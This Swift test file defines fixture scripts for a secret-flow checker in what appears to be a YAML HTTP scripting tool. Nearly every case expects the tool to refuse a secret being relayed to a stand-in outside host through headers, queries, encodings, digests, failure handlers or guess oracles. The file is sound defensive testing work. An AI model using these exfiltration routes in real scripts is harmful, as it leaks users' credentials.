/// The secret goes from file to file until it goes elsewhere.
extension HostileCase {
  /// Scripts that pass it on by `with`, `let`, `each`, `outputs` and `needs`.
  static let scripts: [HostileCase] =
    handedOn + madeInScripts + needs + endings + judged + defaults

  private static let inner = """
    inputs: {k: {}}
    steps:
      send: {call: take.yaml, with: {k: <k>}}

    """

  /// How a file can send its input: the name, and the file.
  private static let leaves: [(name: String, file: String)] = [
    ("in JSON", HostileFiles.take),
    ("in a header field", "host: $B\npath: /take\ninputs: {k: {}}\nheaders: {X-K: <k>}\n"),
    ("in the query", "host: $B\npath: /take\ninputs: {k: {}}\nquery: {q: <k>}\n"),
    ("in the path", "host: $B\npath: /take/<k | hex>\ninputs: {k: {}}\n"),
    ("in a form", "host: $B\npath: /take\ninputs: {k: {}}\nform: {k: <k>}\n"),
    ("in a part", "host: $B\npath: /take\ninputs: {k: {}}\nmultipart: {k: <k>}\n"),
    ("in a text", "host: $B\npath: /take\ninputs: {k: {}}\ntemplate: [k]\ntext: 'x<k>'\n"),
    ("in a URL", "url: $B/take?q=<k>\ninputs: {k: {}}\n"),
    (
      "in variables",
      "host: $B\npath: /take\ninputs: {k: {}}\ngraphql: {query: '{a}', variables: {k: <k>}}\n"
    ),
    ("as a token", "host: $B\npath: /take\ninputs: {k: {}}\nauth: {type: bearer, token: <k>}\n"),
    (
      "as a password",
      "host: $B\npath: /take\ninputs: {k: {}}\nauth: {type: basic, username: u, password: <k>}\n"
    ),
    (
      "by a let, in Base64",
      "host: $B\npath: /take\ninputs: {k: {}}\nlet: {v: 'a<k>b', w: <v | base64>}\nquery: {q: <w>}\n"
    ),
    (
      "as a digest",
      "host: $B\npath: /take\ninputs: {k: {}}\nquery: {q: <k | sha256 | hex>}\n"
    ),
    (
      "as the key of a digest",
      "host: $B\npath: /take\ninputs: {k: {}}\nlet: {t: x}\nquery: {q: <t | hmac_sha256(k) | hex>}\n"
    ),
    (
      "in a template file",
      "host: $B\npath: /take\ninputs: {k: {}}\ntemplate: [k]\nfile: body.txt\n"
    ),
  ]

  private static let handedOn: [HostileCase] =
    leaves.map { leaf in
      HostileCase(
        testDescription: "a: from script to script to B, \(leaf.name)",
        files: [
          "main.yaml": "steps:\n  one: {call: inner.yaml, with: {k: <secret.key>}}\n",
          "inner.yaml": inner, "take.yaml": leaf.file, "body.txt": "x <k> x\n",
        ],
        wanted: .refused(allow))
    } + [
      HostileCase(
        testDescription: "a: a script hands it to an endpoint of B",
        files: [
          "main.yaml": "steps:\n  one: {call: take.yaml, with: {k: <secret.key>}}\n",
          "take.yaml": HostileFiles.take,
        ],
        wanted: .refused(allow)),
      HostileCase(
        testDescription: "a: three scripts deep, after an honest call",
        files: [
          "main.yaml": """
          steps:
            own: {call: own.yaml}
            one: {call: middle.yaml, with: {m: {list: ["pre-<secret.key>"]}}}

          """,
          "middle.yaml": """
          inputs: {m: {type: object}}
          steps:
            one: {call: inner.yaml, with: {k: "<m.list[0]>"}}

          """,
          "inner.yaml": inner, "take.yaml": HostileFiles.take, "own.yaml": HostileFiles.own,
        ],
        wanted: .refused(allow)),
      HostileCase(
        testDescription: "a: to an endpoint written in the inner script",
        files: [
          "main.yaml": "steps:\n  one: {call: inner.yaml, with: {k: <secret.key>}}\n",
          "inner.yaml": """
          inputs: {k: {}}
          steps:
            send: {call: {host: $B, path: /take, query: {q: "<k | json>"}}}

          """,
        ],
        wanted: .refused(allow)),
      HostileCase(
        testDescription: "a: by each of the inner script",
        files: [
          "main.yaml": "steps:\n  one: {call: inner.yaml, with: {k: [<secret.key>, b]}}\n",
          "inner.yaml": """
          inputs: {k: {type: array}}
          steps:
            send: {each: <k>, call: take.yaml, with: {k: <each>}}

          """,
          "take.yaml": HostileFiles.take,
        ],
        wanted: .refused(allow)),
      HostileCase(
        testDescription: "a: as the base of a needed call of an endpoint",
        files: [
          "main.yaml":
            "needs: {n: {call: take.yaml, with: {k: <secret.key>}}}\nhost: $A\npath: /own\n",
          "take.yaml": HostileFiles.take + "outputs: {k: {from: $.ok, default: x}}\n",
        ],
        wanted: .refused(allow)),
      HostileCase(
        testDescription: "a: in an auth of a step",
        files: [
          "main.yaml": "steps:\n  one: {call: inner.yaml, with: {k: <secret.key>}}\n",
          "inner.yaml": """
          inputs: {k: {}}
          steps:
            send: {call: plain.yaml, auth: {type: bearer, token: <k>}}

          """,
          "plain.yaml": "host: $B\npath: /take\n",
        ],
        wanted: .refused(allow)),
      HostileCase(
        testDescription: "a: by a let of the outer script",
        files: [
          "main.yaml": """
          let: {l: "pre-<secret.key>"}
          steps:
            one: {call: inner.yaml, with: {k: <l>}}

          """,
          "inner.yaml": inner, "take.yaml": HostileFiles.take,
        ],
        wanted: .refused(allow)),
      HostileCase(
        testDescription: "a: by a let, in the end of a script that failed",
        files: [
          "main.yaml": "steps:\n  one: {call: inner.yaml, with: {k: <secret.key>}}\n",
          "inner.yaml": """
          inputs: {k: {}}
          let: {m: <k | base64>}
          steps:
            own: {call: own.yaml, with: {k: <k>}, expect: {status: 418}}
          on_failure:
            told: {call: take.yaml, with: {k: <m>}}
          finally:
            tell: {call: take.yaml, with: {k: <m>}}

          """,
          "own.yaml": HostileFiles.ownOf, "take.yaml": HostileFiles.take,
        ],
        twinStatus: 9, wanted: .refused(allow)),
    ]

  /// What a called script can make from its input.
  private static let making: [(name: String, value: String)] = [
    ("as it is", "<k>"), ("in Base64", "<k | base64>"), ("in hex", "<k | hex>"),
    ("percent-encoded", "<k | urlencode>"), ("as a digest", "<k | sha256 | hex>"),
    ("as the key of a digest", "\"<v | hmac_sha256(k) | hex>\""), ("in a text", "\"Key <k>.\""),
    ("in a map", "{a: [x, {b: <k>}]}"), ("as JSON text", "\"<m | json>\""),
    ("by a let", "<l>"),
  ]

  private static let madeInScripts: [HostileCase] = making.map { made in
    let isMap = made.value.hasPrefix("{")
    return HostileCase(
      testDescription: "b: an output of a called script, \(made.name)",
      files: [
        "main.yaml": """
        steps:
          one: {call: inner.yaml, with: {k: <secret.key>}}
          two: {call: take.yaml, with: {k: <one.k2>}}

        """,
        "inner.yaml": """
        inputs: {k: {}}
        let: {v: x, m: [<k>], l: "<k>.<k | base64url>"}
        steps:
          own: {call: own.yaml, with: {k: <k>}}
        outputs: {k2: \(made.value)}

        """,
        "own.yaml": HostileFiles.ownOf,
        "take.yaml": isMap
          ? HostileFiles.take.replacing("{k: {}}", with: "{k: {type: object}}") : HostileFiles.take,
      ],
      wanted: .refused(allow))
  }

  private static let needs: [HostileCase] = [
    HostileCase(
      testDescription: "d: a needed script whose output holds it",
      files: [
        "main.yaml": "needs: {n: {call: give.yaml}}\nhost: $B\npath: /take\nquery: {q: <n.k2>}\n",
        "give.yaml": """
        steps:
          own: {call: own.yaml, with: {k: <secret.key>}}
        outputs: {k2: <secret.key>}

        """,
        "own.yaml": HostileFiles.ownOf,
      ],
      wanted: .refused(allow)),
    HostileCase(
      testDescription: "d: a needed script whose output was made of it",
      files: [
        "main.yaml": "needs: {n: {call: give.yaml}}\nhost: $B\npath: /take\nquery: {q: <n.k2>}\n",
        "give.yaml": """
        let: {l: "<secret.key>"}
        steps:
          one: {call: inner.yaml, with: {k: <l | base64>}}
        outputs: {k2: "v1 <one.o | hex>"}

        """,
        "inner.yaml": """
        inputs: {k: {}}
        steps:
          own: {call: own.yaml, with: {k: <k>}}
        outputs: {o: <k>}

        """,
        "own.yaml": HostileFiles.ownOf,
      ],
      wanted: .refused(allow)),
    HostileCase(
      testDescription: "d: a needed script of a step of a script",
      files: [
        "main.yaml": "steps:\n  own: {call: own.yaml}\n  two: {call: needy.yaml}\n",
        "needy.yaml":
          "needs: {n: {call: give.yaml}}\nhost: $B\npath: /take\nauth: {type: bearer, token: <n.k2>}\n",
        "give.yaml": """
        steps:
          own: {call: own.yaml}
        outputs: {k2: <secret.key>}

        """,
        "own.yaml": HostileFiles.own,
      ],
      wanted: .refused(allow)),
    HostileCase(
      testDescription: "d: a needed login whose secret output goes to B",
      files: [
        "main.yaml":
          "needs: {n: {call: give.yaml}}\nhost: $B\npath: /take\nauth: {type: bearer, token: <n.t>}\n",
        "give.yaml": "steps:\n  in: {call: login.yaml}\noutputs: {t: <in.token>}\n",
        "login.yaml": HostileFiles.login,
      ],
      replies: HostileFiles.loginReply, wanted: .refused(allow)),
  ]

  /// Steps that fail if a guess of the secret is wrong, and the part of theirs that says so.
  private static let judged: [HostileCase] = [
    (
      "fail beside of",
      "{of: 1, fail: {if: <secret.key | startswith('a')>}, allow_failure: true}",
      "<guess.value | default(0)>"
    ),
    (
      "the message of fail",
      "{of: 1, fail: {message: <secret.key>}, allow_failure: true}", "<guess.value | default(0)>"
    ),
    (
      "expect beside of", "{of: a, expect: <secret.key>, allow_failure: true}",
      "<guess.value | default(0)>"
    ),
    (
      "fail after a call",
      "{call: own.yaml, fail: {if: <secret.key | startswith('a')>}, allow_failure: true}",
      "<guess.status | default(0)>"
    ),
    (
      "expect of a script",
      "{call: outputs.yaml, expect: {$.n: <secret.key>}, allow_failure: true}",
      "<guess.n | default(0)>"
    ),
    (
      "fail in a loop",
      "{each: [1, 30], of: <each>, fail: {if: '<(secret.key | length) > each>'}, on_error: continue,"
        + " allow_failure: true}", "<guess.value | json>"
    ),
  ].map { (name, guess, told) in
    HostileCase(
      testDescription: "f: whether a guess is right goes to B, by \(name)",
      files: [
        "main.yaml": """
        steps:
          guess: \(guess)
          tell: {call: take.yaml, with: {k: \(told)}}

        """,
        "own.yaml": HostileFiles.own, "take.yaml": HostileFiles.take,
        "outputs.yaml": "steps:\n  own: {call: own.yaml}\noutputs: {n: 1}\n",
      ],
      wanted: .refused(allow))
  }

  /// Credentials that a script sets for all of its calls.
  private static let defaults: [HostileCase] = [
    HostileCase(
      testDescription: "g: auth of defaults with the host B",
      files: [
        "main.yaml": """
        defaults: {host: $B, auth: {type: bearer, token: <secret.key>}}
        steps:
          tell: {call: {path: /take}}

        """
      ],
      wanted: .refused(allow)),
    HostileCase(
      testDescription: "g: a header field of defaults without a host",
      files: [
        "main.yaml": """
        defaults: {headers: {X-K: <secret.key>}}
        steps:
          tell: {call: {url: $B/take}}

        """
      ],
      wanted: .refused(allow)),
    HostileCase(
      testDescription: "g: a call to B does not take the auth of defaults with the host A",
      files: [
        "main.yaml": """
        defaults: {host: $A, auth: {type: bearer, token: <secret.key>}}
        steps:
          own: {call: {path: /own}}
          tell: {call: {url: $B/take}}
          more: {call: {host: $B, path: /take}}
          base: {call: {extends: base.yaml, path: /take}}

        """,
        "base.yaml": "host: $B\n",
      ],
      wanted: .works(["A GET /own", "B GET /take", "B GET /take", "B GET /take"])),
  ]

  /// Entries of a script that run after its steps.
  private static let endings: [HostileCase] = [
    ("finally", "steps:\n  own: {call: own.yaml}\nfinally:\n  f: ENTRY\n"),
    (
      "finally of a script that failed",
      "steps:\n  own: {call: own.yaml, expect: {status: 418}}\nfinally:\n  f: ENTRY\n"
    ),
    ("cleanup", "steps:\n  own:\n    call: own.yaml\n    cleanup: ENTRY\n"),
    (
      "on_failure",
      "steps:\n  own: {call: own.yaml, expect: {status: 418}}\non_failure:\n  f: ENTRY\n"
    ),
  ].map { (name, script) in
    HostileCase(
      testDescription: "e: \(name) of an inner script sends it to B",
      files: [
        "main.yaml": "steps:\n  one: {call: inner.yaml, with: {k: <secret.key>}}\n",
        "inner.yaml": "inputs: {k: {}}\n"
          + script.replacing("ENTRY", with: "{call: take.yaml, with: {k: <k | base64>}}"),
        "own.yaml": HostileFiles.own, "take.yaml": HostileFiles.take,
      ],
      twinStatus: script.contains("418") ? 9 : 0, wanted: .refused(allow))
  }
}
